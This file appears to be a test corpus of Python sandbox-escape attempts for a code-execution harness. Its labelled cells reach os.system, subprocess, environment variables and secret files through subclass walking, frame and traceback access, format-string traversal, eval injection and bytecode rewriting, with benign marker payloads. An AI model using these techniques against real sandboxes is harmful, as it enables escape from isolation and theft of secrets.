# Object-graph, frame, traceback and format tricks.

# %% subclasses-popen | process | Popen among the subclasses of object
for c in object.__subclasses__():
    if c.__name__ == "Popen":
        print(PWNED, c(["echo", "a"], stdout=-1).communicate())

# %% subclasses-wrap-close | process | os._wrap_close leads to os
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == "_wrap_close":
        c.__init__.__globals__["system"](f"touch {OUTSIDE}/marker")

# %% subclasses-globals | process | any function's globals which hold sys
def walk(c, seen):
    for s in type.__subclasses__(c) if c is not type else []:
        if s not in seen:
            seen.add(s)
            yield s
            yield from walk(s, seen)
for s in walk(object, set()):
    for v in list(vars(s).values()):
        g = getattr(v, "__globals__", None)
        if g and "sys" in g:
            try:
                g["sys"].modules["posix"].system(f"touch {OUTSIDE}/marker")
            except BaseException:
                pass

# %% subclasses-builtin-importer | process | BuiltinImporter.load_module
for c in object.__subclasses__():
    if c.__name__ == "BuiltinImporter":
        c.load_module("posix").system(f"touch {OUTSIDE}/marker")

# %% subclasses-file-loader | secret | FileLoader.get_data reads files
todo = [object]
while todo:
    c = todo.pop()
    todo += [s for s in type(c).__subclasses__(c)] if c is not type else []
    if c.__name__ == "FileLoader":
        print(c("x", SECRET_FILE).get_data(SECRET_FILE))

# %% catch-warnings | process | warnings.catch_warnings()._module
import warnings
w = warnings.catch_warnings()
m = w._module
m.sys.modules["os"].system(f"touch {OUTSIDE}/marker")

# %% function-globals | process | the globals of a library function
import json
g = json.dumps.__globals__
b = g["__builtins__"]
imp = b["__import__"] if isinstance(b, dict) else b.__import__
print(PWNED, imp("subprocess").check_output(["echo", "a"]))

# %% function-builtins | process | the builtins of a library function
import textwrap
imp = textwrap.dedent.__builtins__["__import__"]
print(PWNED, imp("subprocess").check_output(["echo", "a"]))

# %% method-globals | process | the globals of a bound method's function
import random
g = random.Random.seed.__globals__ if hasattr(random.Random.seed, "__globals__") else random.Random().choice.__func__.__globals__
g["_os"].system(f"touch {OUTSIDE}/marker")

# %% getattr-spelled | process | attribute names put together
import json
name = "__glo" + "bals__"
g = getattr(json.loads, name)
b = g["__buil" + "tins__"]
imp = b["__imp" + "ort__"] if isinstance(b, dict) else getattr(b, "__imp" + "ort__")
print(PWNED, imp("sub" + "process").check_output(["echo", "a"]))

# %% attrgetter | process | operator.attrgetter does not look like an attribute
import operator, json
g = operator.attrgetter("__globals__")(json.loads)
b = g["__builtins__"]
imp = b["__import__"] if isinstance(b, dict) else b.__import__
print(PWNED, imp("subprocess").check_output(["echo", "a"]))

# %% methodcaller | process | operator.methodcaller calls __subclasses__
import operator
for c in operator.methodcaller("__subclasses__")(object):
    if c.__name__ == "_wrap_close":
        operator.attrgetter("__init__.__globals__")(c)["system"](f"touch {OUTSIDE}/marker")

# %% object-getattribute | process | object.__getattribute__
import json
g = object.__getattribute__(json.loads, "__globals__")
b = g["__builtins__"]
imp = b["__import__"] if isinstance(b, dict) else object.__getattribute__(b, "__import__")
print(PWNED, imp("subprocess").check_output(["echo", "a"]))

# %% vars-module | process | vars() of a module
import os
vars(os)["system"](f"touch {OUTSIDE}/marker")

# %% dict-of-module | process | __dict__ of a module view
import os
os.__dict__["system"](f"touch {OUTSIDE}/marker")

# %% view-internals | process | whatever stands behind a view of os
import os
seen, todo = set(), [os]
while todo and len(seen) < 20000:
    one = todo.pop()
    if id(one) in seen:
        continue
    seen.add(id(one))
    for name in dir(one):
        if name == "system":
            one.system(f"touch {OUTSIDE}/marker")
        try:
            value = getattr(one, name)
        except BaseException:
            continue
        if type(value).__name__ in ("module", "dict", "function", "View", "mappingproxy", "SimpleNamespace", "cell"):
            todo.append(value)

# %% reload | process | os reloaded from its spec
import os
loader = os.__spec__.loader if hasattr(os, "__spec__") else os.__loader__
m = loader.load_module("os")
m.system(f"touch {OUTSIDE}/marker")

# %% json-spec-loader | process | the loader of an innocent module loads another
import json
loader = type(json.__spec__.loader)("subprocess", json.__file__.replace("json/__init__.py", "subprocess.py"))
m = loader.load_module("subprocess")
print(PWNED, m.check_output(["echo", "a"]))

# %% json-loader-init | process | the import machinery behind a loader
import json
g = json.__loader__.__init__.__globals__
g["_bootstrap"]._gcd_import("posix").system(f"touch {OUTSIDE}/marker")

# %% frame-back | secret | the caller's frames
import sys
f = sys._getframe()
while f:
    for k, v in list(f.f_locals.items()) + list(f.f_globals.items()):
        if "CANARY" in repr(v)[:100000]:
            print(k, repr(v)[:2000])
    print(f.f_code.co_filename, f.f_code.co_name)
    f = f.f_back

# %% traceback-frame | process | the frame of a traceback
try:
    1 / 0
except ZeroDivisionError as e:
    f = e.__traceback__.tb_frame
    while f.f_back:
        f = f.f_back
        print(f.f_code.co_name)
    b = f.f_builtins
    print(PWNED, b["__import__"]("subprocess").check_output(["echo", "a"]))

# %% generator-frame | process | the frame of a generator
def g():
    yield x.gi_frame.f_back
x = g()
f = next(x)
while f.f_back:
    f = f.f_back
print(f.f_globals.get("__name__"))
print(PWNED, f.f_builtins["__import__"]("subprocess").check_output(["echo", "a"]))

# %% generator-gi-frame-globals | process | generator expression's frame in one line
g = (lambda: (yield))()
print(g.gi_frame.f_builtins["__import__"]("subprocess").check_output(["echo", "a"]), PWNED)

# %% coroutine-frame | process | the frame of a coroutine
async def c():
    return 1
k = c()
b = k.cr_frame.f_builtins
k.close()
print(PWNED, b["__import__"]("subprocess").check_output(["echo", "a"]))

# %% async-generator-frame | process | the frame of an asynchronous generator
async def ag():
    yield 1
a = ag()
print(PWNED, a.ag_frame.f_builtins["__import__"]("subprocess").check_output(["echo", "a"]))

# %% frame-locals-write | other | writes the caller's locals (PEP 667)
import sys
f = sys._getframe()
while f.f_back:
    f = f.f_back
    for k in list(f.f_locals):
        try:
            f.f_locals[k] = None
        except Exception:
            pass

# %% exception-context | process | frames of an exception thrown inside the harness
class Evil(str):
    def __str__(self):
        raise ValueError
try:
    print(Evil())
except ValueError as e:
    t = e.__traceback__
    while t:
        f = t.tb_frame
        while f:
            if "system" in f.f_globals:
                f.f_globals["system"](f"touch {OUTSIDE}/marker")
            f = f.f_back
        t = t.tb_next

# %% import-error-frames | process | frames of the exception of a refused import
try:
    import subprocess
except ImportError as e:
    t = e.__traceback__
    while t:
        g = t.tb_frame.f_globals
        print(g.get("__name__"), [k for k in g if "import" in k.lower()])
        imp = t.tb_frame.f_builtins.get("__import__")
        try:
            print(PWNED, imp("subprocess").check_output(["echo", "a"]))
        except BaseException as b:
            print(repr(b))
        t = t.tb_next

# %% open-error-frames | secret | frames of the exception of a refused open
try:
    open(f"{OUTSIDE}/marker", "w")
except BaseException as e:
    t = e.__traceback__
    while t:
        f = t.tb_frame
        for k, v in {**f.f_globals, **f.f_locals}.items():
            print(f.f_code.co_name, k)
            if callable(v) and "open" in k:
                try:
                    print(v(SECRET_FILE).read())
                except BaseException as b:
                    print(repr(b)[:99])
        t = t.tb_next

# %% aws-error-frames | egress | frames of an error that the broker answers
import boto3
try:
    boto3.client("s3").get_object(Bucket="shop-data", Key="orders/2026/00.json")
except Exception as e:
    t = e.__traceback__
    while t:
        f = t.tb_frame
        print(f.f_code.co_filename, f.f_code.co_name, list(f.f_locals), [k for k in f.f_globals if "sock" in k])
        for k, v in {**f.f_globals, **f.f_locals}.items():
            if type(v).__name__ == "socket" or hasattr(v, "sendall"):
                v.sendall(b'{"op": "forged"}\n' * 100)
        t = t.tb_next

# %% settrace | secret | a trace function sees the harness
import sys
def spy(frame, event, arg):
    for k, v in frame.f_globals.items():
        if k in ("subprocess", "socket"):
            v.check_output(["touch", f"{OUTSIDE}/marker"]) if k == "subprocess" else v.create_connection(("127.0.0.1", PORT))
    return spy
sys.settrace(spy)
len([])
print("x")

# %% setprofile-threads | secret | a profile function in every new thread
import threading, sys
found = []
def spy(frame, event, arg):
    f = frame
    while f:
        found.append(f.f_code.co_filename)
        m = f.f_globals.get("_os") or f.f_globals.get("os")
        if m is not None and hasattr(m, "system"):
            m.system(f"touch {OUTSIDE}/marker")
        f = f.f_back
threading.setprofile(spy)
t = threading.Thread(target=print); t.start(); t.join()
print(set(found))

# %% excepthook | other | a hook that runs when the harness shows an error
import sys
def hook(*a):
    f = sys._getframe()
    while f:
        print(f.f_code.co_filename, f.f_globals.get("__name__"))
        s = f.f_globals.get("os")
        s and s.system(f"touch {OUTSIDE}/marker")
        f = f.f_back
sys.excepthook = hook
sys.unraisablehook = hook
raise ValueError("show me")

# %% displayhook | other | a hook for the last expression
import sys
class Show:
    def __repr__(self):
        f = sys._getframe() if hasattr(sys, "_getframe") else None
        while f:
            for k, v in f.f_globals.items():
                if k in ("os", "posix"):
                    v.system(f"touch {OUTSIDE}/marker")
            f = f.f_back
        return "shown"
Show()

# %% str-format-globals | secret | format strings walk attributes
import boto3, json
print("{0.__globals__}".format(json.dumps)[:20000])
print("{0.__init__.__globals__}".format(boto3.Session)[:20000])

# %% str-format-environ | secret | format strings reach the environment
import logging, os
print("{0.os.environ}".format(logging))
print("{0.environ}".format(os))
print("{0.__init__.__globals__[os].environ}".format(logging.LogRecord))

# %% formatter-class | secret | string.Formatter walks attributes
import string, logging
f = string.Formatter()
print(f.get_field("0.__init__.__globals__", (logging.LogRecord,), {})[0]["os"].environ)

# %% formatter-process | process | string.Formatter as getattr
import string, logging
g, _ = string.Formatter().get_field("0.__init__.__globals__[os].system", (logging.LogRecord,), {})
g(f"touch {OUTSIDE}/marker")

# %% format-map | secret | format_map with a mapping of its own
import logging
class M(dict):
    def __missing__(self, k):
        return logging
print("{x.os.environ}".format_map(M()))

# %% template-class | secret | string.Template with a pattern of its own
import string, logging
class T(string.Template):
    idpattern = r"[\w.\[\]]+"
class M(dict):
    def __missing__(self, k):
        return eval(k, {"logging": logging})
print(T("${logging.os.environ}").safe_substitute(M()))

# %% fstring-nested | secret | f-strings evaluate
import logging
x = logging
print(f"{x.os.environ!r}")
print(f"{x.os.popen('echo a').read()!r}", PWNED)

# %% match-attributes | process | match reads attributes without naming them in code
import json
match json.loads:
    case object(__globals__=g):
        b = g["__builtins__"]
        imp = b["__import__"] if isinstance(b, dict) else b.__import__
        print(PWNED, imp("subprocess").check_output(["echo", "a"]))

# %% match-args | process | __match_args__ names the attributes at run time
import json
class Any(type):
    def __instancecheck__(cls, other):
        return True
class F(metaclass=Any):
    __match_args__ = ("__globals__",)
match json.loads:
    case F(g):
        b = g["__builtins__"]
        imp = b["__import__"] if isinstance(b, dict) else b.__import__
        print(PWNED, imp("subprocess").check_output(["echo", "a"]))

# %% attribute-error-obj | process | AttributeError.obj gives back the object
import os
try:
    "{0.system.nothing}".format(os)
except AttributeError as e:
    e.obj(f"touch {OUTSIDE}/marker")

# %% name-error-suggestions | process | frames of a NameError deep in a library
import collections
try:
    collections.namedtuple("A", "b", module=1)(1).c
    collections.namedtuple("A", ["x y"])
except Exception as e:
    t = e.__traceback__
    while t:
        f = t.tb_frame
        if "_sys" in f.f_globals:
            f.f_globals["_sys"].modules["posix"].system(f"touch {OUTSIDE}/marker")
        t = t.tb_next

# %% namedtuple-eval | process | namedtuple's eval with a name of its own
from collections import namedtuple
class S(str):
    def isidentifier(self):
        return True
    def __contains__(self, o):
        return False
try:
    namedtuple("A", [S("x=__import__('os').system('id')")])
    print(PWNED)
except Exception as e:
    print(repr(e))

# %% dataclass-exec | process | make_dataclass' exec with names of its own
import dataclasses
class S(str):
    def isidentifier(self):
        return True
    def __hash__(self):
        return 1
try:
    dataclasses.make_dataclass("A", [(S("a=__import__('os').system('touch %s/marker')" % OUTSIDE), int)])
except Exception as e:
    print(repr(e))

# %% type-hints-eval | process | get_type_hints evaluates text
import typing
def f(x: "__import__('os').system('touch %s/marker')"):
    pass
f.__annotations__["x"] = "__import__('os').system('touch %s/marker')" % OUTSIDE
typing.get_type_hints(f)

# %% forward-ref | process | ForwardRef evaluates text
import typing
r = typing.ForwardRef("__import__('os').system('touch %s/marker')" % OUTSIDE)
r._evaluate(globals(), {}, frozenset(), recursive_guard=frozenset())

# %% singledispatch-annotations | process | a dispatcher evaluates annotations
import functools
@functools.singledispatch
def f(x):
    pass
def g(x: str): pass
g.__annotations__ = {"x": "__import__('os').system('touch %s/marker') or int" % OUTSIDE}
f.register(g)

# %% code-replace | other | a code object with other constants and names
def f():
    return abs
f.__code__ = f.__code__.replace(co_names=("__import__",))
print(PWNED, f()("subprocess").check_output(["echo", "a"]))

# %% code-crash | hang | bytecode that is not valid
def f():
    pass
f.__code__ = f.__code__.replace(co_code=b"\x64\xff" * 64, co_stacksize=1)
f()

# %% load-fast-memory | other | bytecode that reads past its locals
def f(a):
    return a
f.__code__ = f.__code__.replace(co_code=bytes([149, 0, 85, 200, 36, 0]))
print(f(1))

# %% function-type | process | a function of other globals
import types, json
f = types.FunctionType(compile("__import__('subprocess').check_output(['echo','a'])", "x", "eval"), json.loads.__globals__)
print(PWNED, f())

# %% lambda-type | process | the type of a lambda makes functions
F = type(lambda: 0)
C = type((lambda: 0).__code__)
import json
f = F(compile("__import__('subprocess').check_output(['echo','a'])", "x", "eval"), json.loads.__globals__)
print(PWNED, f())

# %% function-new-builtins | process | a function whose globals name their own builtins
import json
code = (lambda: __import__("subprocess").check_output(["echo", "a"])).__code__
b = json.loads.__builtins__
f = type(lambda: 0)(code, {"__builtins__": b})
print(PWNED, f())

# %% closure-cells | other | cells of a wrapper
import os, builtins, sys, json
for module in (os, builtins, sys):
    for name in dir(module):
        f = getattr(module, name, None)
        for cell in getattr(f, "__closure__", None) or ():
            inner = cell.cell_contents
            try:
                print(name, inner)
                if name == "open":
                    print(inner(SECRET_FILE).read())
                if getattr(inner, "__name__", "") in ("open", "__import__"):
                    print(inner("subprocess").check_output(["echo", "a"]), PWNED)
            except BaseException as e:
                print(repr(e)[:99])

# %% wrapped | secret | __wrapped__ of a guarded function
import builtins, os
for f in (open, os.listdir, getattr(builtins, "__import__", None), print, exec, eval):
    inner = getattr(f, "__wrapped__", None) or getattr(f, "func", None) or getattr(f, "__func__", None)
    if inner:
        try:
            print(inner(SECRET_FILE).read())
        except BaseException as e:
            print(repr(e)[:99])

# %% function-defaults | secret | defaults of a guarded function
import builtins, os, sys, boto3, botocore.client
for holder in (builtins, os, sys, botocore.client.BaseClient):
    for name in dir(holder):
        f = getattr(holder, name, None)
        for v in list(getattr(f, "__defaults__", None) or ()) + list((getattr(f, "__kwdefaults__", None) or {}).values()):
            if not isinstance(v, (int, str, type(None), tuple)):
                print(name, type(v))
                if hasattr(v, "sendall"):
                    v.sendall(b"garbage\n")
                if hasattr(v, "read"):
                    print(v.read())

# %% override-guards | file | replaces the globals of the guard itself
import builtins, os, sys
g = getattr(open, "__globals__", {})
for k in list(g):
    if not k.startswith("__"):
        g[k] = lambda *a, **k: True
open(f"{OUTSIDE}/marker", "w").write("x")

# %% io-open | file | the other names of open
import io, os, builtins, pathlib, codecs, tokenize
for f in (getattr(io, "open", None), getattr(io, "FileIO", None), getattr(codecs, "open", None), getattr(io, "open_code", None), getattr(tokenize, "open", None)):
    try:
        print(f(SECRET_FILE).read())
    except BaseException as e:
        print(repr(e)[:99])
    try:
        f(f"{OUTSIDE}/marker", "w").write("x" if f is not io.FileIO else b"x")
    except BaseException as e:
        print(repr(e)[:99])

# %% del-finalizer | process | a finaliser which runs after the guards are gone
class Late:
    def __init__(self):
        import os
        self.f = getattr(os, "system", None)
    def __del__(self):
        try:
            import os
            (self.f or os.__dict__["system"])(f"touch {OUTSIDE}/marker")
        except BaseException:
            pass
        try:
            open(f"{OUTSIDE}/marker2", "w")
        except BaseException:
            pass
import sys
late = Late()
sys.late = late
late.me = late

# %% atexit | file | a function at exit
import atexit
atexit.register(lambda: open(f"{OUTSIDE}/marker", "w"))

# %% atexit-threading | file | threading's exit functions
import threading
threading._register_atexit(lambda: open(f"{OUTSIDE}/marker", "w"))

# %% weakref-finalize | file | weakref's finaliser at exit
import weakref
class A: pass
a = A()
weakref.finalize(a, open, f"{OUTSIDE}/marker", "w")

# %% mro-override | other | str, int and Exception given new behaviour
class T(type):
    def __getattribute__(cls, name):
        print(name)
        return type.__getattribute__(cls, name)
class E(Exception, metaclass=T):
    @property
    def __class__(self):
        return SystemExit
    @property
    def args(self):
        raise RuntimeError("no args")
    @property
    def __traceback__(self):
        raise RuntimeError("no traceback")
    def __str__(self):
        raise KeyboardInterrupt
    __repr__ = __str__
raise E

# %% sys-hooks-cleared | process | audit hooks are kept somewhere
import sys
sys._clear_internal_caches() if hasattr(sys, "_clear_internal_caches") else None
sys._clear_type_cache() if hasattr(sys, "_clear_type_cache") else None
sys.audit("os.system", b"x")
sys.addaudithook(lambda *a: print(a))
import os
os.system(f"touch {OUTSIDE}/marker")

# %% interpreters | process | a sub-interpreter has no hook of ours
import _interpreters
i = _interpreters.create()
_interpreters.run_string(i, "import os; os.system('touch %s/marker')" % OUTSIDE)

# %% xxsubinterpreters | process | the same through an executor
import _xxsubinterpreters as x
i = x.create()
x.run_string(i, "import os; os.system('touch %s/marker')" % OUTSIDE)

# %% thread-start | process | a raw thread with frames of its own
import _thread, time
def go():
    import os
    os.system(f"touch {OUTSIDE}/marker")
_thread.start_new_thread(go, ())
time.sleep(0.2)

# %% current-frames | secret | frames of every thread
import sys, threading
for f in sys._current_frames().values():
    while f:
        print(f.f_code.co_name, f.f_code.co_filename, list(f.f_locals))
        for k, v in {**f.f_globals, **f.f_locals}.items():
            if k in ("os", "socket", "subprocess") and hasattr(v, "system"):
                v.system(f"touch {OUTSIDE}/marker")
        f = f.f_back

# %% current-exceptions | secret | exceptions of every thread
import sys
for k, v in sys._current_exceptions().items():
    print(k, v)
    t = getattr(v, "__traceback__", None)
    while t:
        print(PWNED if "_real_import" in t.tb_frame.f_globals else t.tb_frame.f_code.co_filename)
        t = t.tb_next

# %% threading-main | other | the main thread object and its target
import threading
for t in threading.enumerate():
    print(t.name, vars(t))
    f = getattr(t, "_target", None)
    g = getattr(f, "__globals__", {})
    for k, v in list(g.items()):
        if k in ("os", "socket", "json"):
            getattr(v, "system", print)(f"touch {OUTSIDE}/marker")

# %% builtins-replaced | other | print, repr, str, len and json broken for the harness
import builtins, json
def broken(*a, **k):
    raise SystemExit("broken")
for name in ("print", "repr", "str", "len", "isinstance", "getattr", "type", "dict", "list", "open", "int", "Exception", "BaseException"):
    try:
        setattr(builtins, name, broken)
    except BaseException:
        pass
json.dumps = json.loads = broken
1 + 1

# %% stdout-replaced | other | sys.stdout as a thing which fails
import sys
class Out:
    def write(self, s):
        raise OSError("closed")
    def flush(self):
        raise MemoryError
    def __getattr__(self, n):
        raise KeyboardInterrupt
sys.stdout = sys.stderr = Out()
result = 5

# %% ast-load | process | a tree compiled without source
import ast
t = ast.Module(body=[ast.Import(names=[ast.alias(name="subprocess", asname="s")]), ast.Expr(ast.Call(ast.Name("f", ast.Load()), [ast.Name("s", ast.Load())], []))], type_ignores=[])
ast.fix_missing_locations(t)
exec(compile(t, "x", "exec"), {"f": lambda s: print(PWNED, s.check_output(["echo", "a"])), "__builtins__": __builtins__})
